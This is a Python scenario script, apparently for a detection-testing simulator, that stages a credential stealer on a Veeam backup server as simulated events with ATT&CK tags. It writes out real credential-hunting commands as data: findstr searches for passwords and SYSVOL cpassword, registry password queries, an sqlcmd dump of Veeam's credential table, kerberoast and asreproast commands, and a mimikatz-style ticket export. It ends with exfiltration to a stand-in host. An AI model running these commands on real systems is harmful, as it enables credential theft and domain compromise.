"""A stealer on a backup server asks every store that Windows and administrators' programs keep: DPAPI, vault, answer files,
saved sessions, backup product, Kerberos. Resembles the credential hunts of Akira and FIN7 on Veeam servers."""
import contextlib

from scenery import Desktop

SETTING = {"start": "2024-08-06T19:34:02", "user": "USINA\\bruno.admin", "home": "C:\\Users\\bruno.admin",
           "computer": "SRV-BKP01",
           "os_version": (10, 0, 20348)}
MICROSOFT = {"company": "Microsoft Corporation"}
SYSTEM32 = "C:\\Windows\\System32\\"
SID = "S-1-5-21-1004336348-1177238915-682003330-1001"
CONTROLLER = "10.0.2.10"


@contextlib.contextmanager
def told(c, sample, what, severity, techniques, about):
    """A behaviour of the sample; the processes that are added to the list it gives count as doers."""
    helpers = []
    with c.behaviour(what, severity, techniques, sample, about):
        yield helpers
    c.behaviours[-1].pids |= {one.pid for one in helpers}
    c.wait(5)


def by_shell(c, sample, helpers, name, arguments):
    """`cmd /c NAME ARGUMENTS`: both processes; the caller has the tool do its work, then ends them."""
    shell = c.spawn(sample, SYSTEM32 + "cmd.exe", "cmd /c %s %s" % (name, arguments), **MICROSOFT)
    child = c.spawn(shell, SYSTEM32 + name + ".exe", "%s  %s" % (name, arguments), **MICROSOFT)
    c.load(child, SYSTEM32 + "kernel32.dll")
    helpers += [shell, child]
    return child


def end(c, helpers):
    for process in reversed(helpers):
        c.exit(process)


def protected(c, sample):
    """What DPAPI protects."""
    roaming, local = c.home + r"\AppData\Roaming\Microsoft", c.home + r"\AppData\Local\Microsoft"
    with told(c, sample, "reads the master keys of DPAPI", "high", ("T1555", "T1555.004", "T1555.003", "T1552.004"),
              ("Protect", "1c6a0f3e")):
        for name in ("1c6a0f3e-4f27-4a1c-8d7e-51b09e2f7a60", "b07d2c11-93ae-4c55-a0c2-8f1c7d4b6e92", "Preferred"):
            c.read(sample, roaming + "\\Protect\\" + SID + "\\" + name, 740)
    with told(c, sample, "reads the credential files of the user", "high", "T1555.004", ("Credentials", "DFBE70A7E5CC19A3")):
        for folder in (roaming, local):
            c.read(sample, folder + r"\Credentials\DFBE70A7E5CC19A398EBF1B96859CE5D", 11_020)
        c.read(sample, local + r"\Vault\4BF4C442-9B8A-41A0-B380-DD4A704DDB28\Policy.vpol", 436)
    with told(c, sample, "reads credentials and master keys of the system's accounts", "high",
              ("T1555", "T1555.004", "T1552.004", "T1003.004"), ("systemprofile", "S-1-5-18")):
        c.read(sample, SYSTEM32 + r"Microsoft\Protect\S-1-5-18\User\9a4d2b7c-02fe-4d0b-9e13-6c5e3a8b1f74", 468)
        c.read(sample,
               SYSTEM32 + r"config\systemprofile\AppData\Local\Microsoft\Credentials\8C5A1F0D2E7B4C69A3D1E5F7B9C0D2E4", 572)
    with told(c, sample, "lists the vault by vaultcmd", "medium", "T1555.004", "vaultcmd") as helpers:
        child = by_shell(c, sample, helpers, "vaultcmd", '/listcreds:"Windows Credentials" /all')
        c.load(child, SYSTEM32 + "vaultcli.dll")
        end(c, helpers)
    with told(c, sample, "lists saved credentials by cmdkey", "medium", ("T1555.004", "T1087"), "cmdkey") as helpers:
        by_shell(c, sample, helpers, "cmdkey", "/list")
        end(c, helpers)


def searched(c, sample):
    """Passwords that lie about in files and in the registry."""
    with told(c, sample, "searches files for passwords by findstr", "medium", ("T1552.001", "T1083"), "findstr") as helpers:
        child = by_shell(c, sample, helpers, "findstr", r"/si password C:\inetpub\*.config C:\Scripts\*.xml *.ini *.txt")
        for name in (r"C:\inetpub\wwwroot\web.config", r"C:\Scripts\sync.xml", r"C:\Scripts\nightly.xml"):
            c.read(child, name, 3800)
        end(c, helpers)
    with told(c, sample, "searches the domain's policies for passwords", "high", "T1552.006", "cpassword") as helpers:
        child = by_shell(c, sample, helpers, "findstr",
                         r"/S /I cpassword \\usina.example\sysvol\usina.example\policies\*.xml")
        c.read(child,
               r"\\usina.example\sysvol\usina.example\policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences"
               r"\Groups\Groups.xml", 1900)
        end(c, helpers)
    with told(c, sample, "searches the whole registry for passwords", "medium", "T1552.002", "password") as helpers:
        child = by_shell(c, sample, helpers, "reg", "query HKLM /f password /t REG_SZ /s")
        for name in ("Microsoft", "ODBC", "Policies"):
            c.open_key(child, "HKLM\\SOFTWARE\\" + name)
            c.close_key(child, "HKLM\\SOFTWARE\\" + name)
        end(c, helpers)
    with told(c, sample, "looks for answer files of Windows setup", "medium", "T1552.001", "nattend.xml"):
        for name in (r"C:\Windows\Panther\Unattend\Unattend.xml", r"C:\Windows\System32\sysprep\sysprep.xml",
                     r"C:\sysprep.inf",
                     r"C:\unattend.xml"):
            c.open(sample, name, result="NAME NOT FOUND")
        c.read(sample, r"C:\Windows\Panther\Unattend.xml", 5600)
    with told(c, sample, "asks for the password of automatic logon", "medium", "T1552.002",
              ("DefaultPassword", "Winlogon")) as helpers:
        winlogon = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"
        child = by_shell(c, sample, helpers, "reg", 'query "HKLM\\%s" /v DefaultPassword' % winlogon)
        c.open_key(child, "HKLM\\" + winlogon)
        c.query(child, "HKLM\\" + winlogon + r"\DefaultPassword")
        end(c, helpers)


def sessions(c, sample):
    """Programs of administrators."""
    putty = r"HKCU\Software\SimonTatham\PuTTY\Sessions"
    with told(c, sample, "reads PuTTY's saved sessions by reg", "medium", "T1552.002", "PuTTY") as helpers:
        child = by_shell(c, sample, helpers, "reg", "query " + putty + " /s")
        for name in ("esx01", "fw-matriz"):
            c.open_key(child, putty + "\\" + name)
            c.query(child, putty + "\\" + name + r"\ProxyPassword", "REG_SZ", "")
            c.query(child, putty + "\\" + name + r"\PublicKeyFile", "REG_SZ", r"D:\chaves\esx.ppk")
        end(c, helpers)
    with told(c, sample, "reads WinSCP's saved sessions with their passwords", "high", ("T1552.002", "T1555"), "WinSCP"):
        key = r"HKCU\Software\Martin Prikryl\WinSCP 2\Sessions"
        c.open_key(sample, key)
        for name in ("ftp-fornecedor", "root@10.0.2.40"):
            c.open_key(sample, key + "\\" + name)
            c.query(sample, key + "\\" + name + r"\HostName", "REG_SZ", "10.0.2.40")
            c.query(sample, key + "\\" + name + r"\Password", "REG_SZ", "A35C7A5912B8E91D2F7D")
    with told(c, sample, "reads passwords of VNC servers", "medium", ("T1552.002", "T1555"), "VNC") as helpers:
        child = by_shell(c, sample, helpers, "reg", r"query HKLM\SOFTWARE\TightVNC\Server /v Password")
        c.open_key(child, r"HKLM\SOFTWARE\TightVNC\Server")
        c.query(child, r"HKLM\SOFTWARE\TightVNC\Server\Password", "REG_BINARY", bytes(range(17, 25)))
        end(c, helpers)
        c.open_key(sample, r"HKLM\SOFTWARE\RealVNC\WinVNC4", result="NAME NOT FOUND")
        c.open_key(sample, r"HKCU\Software\ORL\WinVNC3", result="NAME NOT FOUND")
    with told(c, sample, "reads stores of FTP, remote desktop and SSH programs", "high", ("T1552.001", "T1552.004", "T1555"),
              ("recentservers.xml", "confCons.xml", "id_rsa")):
        c.read(sample, c.home + r"\AppData\Roaming\FileZilla\recentservers.xml", 2100)
        c.read(sample, c.home + r"\AppData\Roaming\mRemoteNG\confCons.xml", 18_400)
        c.read(sample, c.home + r"\.ssh\id_rsa", 2602)
    with told(c, sample, "reads the passwords that Veeam keeps in its database", "high",
              ("T1555", "T1552", "T1552.001", "T1213"),
              ("VeeamBackup", "sqlcmd", "Veeam")) as helpers:
        veeam = r"HKLM\SOFTWARE\Veeam\Veeam Backup and Replication"
        c.open_key(sample, veeam)
        c.query(sample, veeam + r"\SqlInstanceName", "REG_SZ", "VEEAMSQL2016")
        c.query(sample, veeam + r"\SqlDatabaseName", "REG_SZ", "VeeamBackup")
        helpers.append(c.spawn(sample, r"C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\130\Tools\Binn\SQLCMD.EXE",
                               r"sqlcmd.exe -S localhost\VEEAMSQL2016 -E -y0 -Q "
                               r'"SELECT TOP (1000) [user_name],[password] FROM [VeeamBackup].[dbo].[Credentials]" -o v.txt',
                               directory=r"C:\ProgramData\pk", **MICROSOFT))
        c.drop(helpers[0], r"C:\ProgramData\pk\v.txt", 1800)
        end(c, helpers)


def kerberos(c, sample):
    roaster = r"C:\ProgramData\pk\rb.exe"
    with told(c, sample, "lists accounts with service names by setspn", "medium", ("T1558.003", "T1087.002"),
              "setspn") as helpers:
        child = by_shell(c, sample, helpers, "setspn", "-T usina.example -Q */*")
        c.exchange(child, (CONTROLLER, 389), 51200, [240, 380], [9100])
        end(c, helpers)
    with told(c, sample, "asks for service tickets to crack (Kerberoasting)", "high", "T1558.003",
              ("kerberoast", "h1.txt")) as helpers:
        c.drop(sample, roaster, 446_976)
        helpers.append(c.spawn(sample, roaster, "rb.exe kerberoast /nowrap /rc4opsec /outfile:h1.txt",
                               directory=r"C:\ProgramData\pk"))
        c.load(helpers[0], r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll")
        c.exchange(helpers[0], (CONTROLLER, 389), 51211, [280, 410], [6200])
        c.drop(helpers[0], r"C:\ProgramData\pk\h1.txt", 9400)
        end(c, helpers)
    with told(c, sample, "asks for answers of accounts without preauthentication", "high", "T1558.004",
              ("asreproast",)) as helpers:
        helpers.append(c.spawn(sample, roaster, "rb.exe asreproast /format:hashcat /outfile:h2.txt",
                               directory=r"C:\ProgramData\pk"))
        c.exchange(helpers[0], (CONTROLLER, 88), 51214, [196], [620])
        c.drop(helpers[0], r"C:\ProgramData\pk\h2.txt", 900)
        end(c, helpers)
    with told(c, sample, "exports Kerberos tickets to files", "high",
              ("T1558", "T1558.005", "T1003", "T1550.003", "T1003.001"),
              (".kirbi", "krbtgt")) as helpers:
        tool = r"C:\ProgramData\pk\mk.exe"
        c.drop(sample, tool, 1_355_000)
        helpers.append(c.spawn(sample, tool, 'mk.exe "privilege::debug" "kerberos::list /export" exit',
                               directory=r"C:\ProgramData\pk"))
        for name in ("0-40e10000-bruno.admin@krbtgt~USINA.EXAMPLE-USINA.EXAMPLE.kirbi",
                     "1-40a50000-bruno.admin@cifs~dc01.usina.example-USINA.EXAMPLE.kirbi"):
            c.drop(helpers[0], "C:\\ProgramData\\pk\\" + name, 1600)
        end(c, helpers)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(8)
    sample = c.spawn(desktop.explorer, c.home + r"\Downloads\nota_fiscal_0806.exe", integrity="High")
    for name in ("kernel32", "crypt32", "dpapi", "vaultcli"):
        c.load(sample, SYSTEM32 + name + ".dll")
    c.folder(sample, r"C:\ProgramData\pk")
    protected(c, sample)
    desktop.murmur(4)
    searched(c, sample)
    desktop.murmur(4)
    sessions(c, sample)
    kerberos(c, sample)
    c.host("198.51.100.140", "cofre.example")
    desktop.resolve()
    with told(c, sample, "sends what it found to its server", "medium", ("T1041", "T1048", "T1071.001"),
              ("198.51.100.140", "cofre.example")):
        for name in ("h1.txt", "h2.txt", "v.txt"):
            c.read(sample, "C:\\ProgramData\\pk\\" + name, 1800)
        c.exchange(sample, ("198.51.100.140", 443), 51300, [517, 14_600, 14_600, 8_200], [310])
    desktop.murmur(5)
